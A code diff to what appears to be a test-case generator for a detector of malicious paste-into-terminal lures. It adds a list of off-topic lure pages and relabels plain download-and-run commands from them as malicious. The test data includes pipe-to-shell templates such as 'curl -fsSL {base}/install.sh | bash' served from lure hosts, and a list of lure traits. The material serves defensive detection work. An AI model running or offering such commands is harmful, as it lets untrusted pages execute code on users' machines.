@@ -25,7 +25,8 @@ source, target}; `technique` names the technique, `benign-<technique>` its devel
 - `stranger-page-lure-trait`: a terminal command from a page that shares nothing with its
   download host and has a lure trait (a script posing as a picture, a CMS upload folder, output thrown away, the
   screen cleared after, a hidden window, padding and a fake verification line): `malicious`;
-  the same download with no trait from such a page: `suspicious` (a warning, not a block), and
+  the same download with no trait from such a page: `suspicious` (a warning, not a block) when
+  the page could be a developer's, `malicious` when its address is about something else, and
   official installers quoted by docs on another domain: `info`;
 - `windows-page`: `control <keyword>`, `control /name Microsoft.X`, `control <applet>.cpl`,
   `mmc <snap-in>.msc`, `ms-settings:` in the Run box or address bar, even from a web page: not
@@ -117,6 +118,17 @@ STRANGER_PAGES = [
     "https://forum.example.org/t/help-with-setup/4411",
     "https://docs-preview.filehub-share.xyz/view?d=77",
 ]
+# Of those, the pages whose address says nothing of software (no docs, forum, install...
+# words): a download-and-run of a stranger's script from them is blocked (PG-PAGE-OFF-TOPIC).
+OFF_TOPIC_PAGES = frozenset(
+    {
+        "https://checkpoint.verify-session.top/human",
+        "https://www.example-bakery.com/menu/",
+        "https://meet.conference-room.click/join/8812",
+        "https://news.example-daily.net/2025/11/article",
+        "https://docs-preview.filehub-share.xyz/view?d=77",
+    }
+)
 # Hosts a lure serves its script from: (host, path).
 STRANGER_HOSTS = [
     ("cdn.pixel-relay.top", "assets"),
@@ -375,7 +387,10 @@ def stranger_cases() -> list[dict[str, str]]:
         for how, text, platform in traits:
             out.append(case(f"i-stranger-{how}-{n}", text, "malicious", LURE, platform, page,
                             "terminal"))  # fmt: skip
-        # the same download with no trait from a stranger's page: a warning, not a block
+        # the same download with no trait from a stranger's page: a warning, not a block, when
+        # the page could be a developer's (a forum thread on setup); a block when its address
+        # is about something else (a menu, a meeting, a news article)
+        expect = "malicious" if page in OFF_TOPIC_PAGES else "suspicious"
         for k, (text, platform) in enumerate(
             [
                 (f"curl -fsSL {base}/install.sh | bash", "linux"),
@@ -383,7 +398,7 @@ def stranger_cases() -> list[dict[str, str]]:
             ],
             start=1,
         ):
-            out.append(case(f"i-stranger-no-trait-{n}-{k}", text, "suspicious", LURE, platform,
+            out.append(case(f"i-stranger-no-trait-{n}-{k}", text, expect, LURE, platform,
                             page, "terminal"))  # fmt: skip
         # a developer's own page using those same scripts is cleared, even with a long line
         own = f"https://docs.{host.split('.', 1)[1]}/install"
